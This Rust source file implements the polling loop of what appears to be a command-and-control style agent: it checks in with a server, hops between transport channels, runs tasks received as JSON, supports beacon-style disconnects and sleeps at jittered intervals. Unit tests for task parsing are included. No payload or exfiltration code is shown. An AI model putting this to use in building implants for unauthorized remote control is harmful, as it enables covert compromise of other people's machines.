//! Poll-family run loop: StopCheck → HopCheck → CheckIn → Dispatch →
//! Sleep, forever. Transport errors cost one cycle; there is no retry
//! ceiling and no backoff beyond the jittered interval.

use crate::agent::hop::HopOutcome;
use crate::agent::{AgentCore, LoopExit};
use crate::protocol::{Task, TaskEnvelope};
use tracing::{debug, info, warn};

impl AgentCore {
    pub(crate) async fn run_poll_loop(&mut self) -> crate::Result<LoopExit> {
        info!(transport = %self.transport(), "entering poll loop");

        loop {
            if self.stop.is_cancelled() {
                return Ok(LoopExit::Stopped);
            }

            if let Some(HopOutcome::Committed { family_changed }) =
                self.check_pending_hop().await
            {
                if family_changed {
                    return Ok(LoopExit::FamilyChanged);
                }
                // Same-family commit: restart the iteration on the new
                // channel. An aborted hop falls through and the cycle
                // continues on the old one.
                continue;
            }

            match self.communicator.check_in().await {
                Err(e) => {
                    // Skip straight to Sleep; next cycle retries.
                    warn!(error = %e, "check-in failed");
                }
                Ok(body) => {
                    if let Some(task) = parse_check_in(&body) {
                        self.execute_task(task).await;
                    }
                    if self.config.beacon {
                        if let Err(e) = self.communicator.disconnect().await {
                            debug!(error = %e, "beacon disconnect failed");
                        }
                    }
                }
            }

            if self.idle_sleep().await {
                return Ok(LoopExit::Stopped);
            }
        }
    }
}

/// Parse a check-in response body into a task. Empty bodies mean no
/// work; malformed bodies are discarded without killing the loop.
fn parse_check_in(body: &str) -> Option<Task> {
    let body = body.trim();
    if body.is_empty() {
        return None;
    }
    match serde_json::from_str::<TaskEnvelope>(body) {
        Ok(envelope) => envelope.into_task(),
        Err(e) => {
            warn!(error = %e, "discarding malformed check-in response");
            None
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn empty_and_malformed_bodies_yield_no_task() {
        assert!(parse_check_in("").is_none());
        assert!(parse_check_in("   ").is_none());
        assert!(parse_check_in("not json at all").is_none());
        assert!(parse_check_in(r#"{"task_available":false}"#).is_none());
    }

    #[test]
    fn well_formed_body_yields_task() {
        let task = parse_check_in(
            r#"{"task_available":true,"task_id":"t-9","command":"ping","data":null}"#,
        )
        .unwrap();
        assert_eq!(task.id, "t-9");
        assert_eq!(task.command, "ping");
    }
}
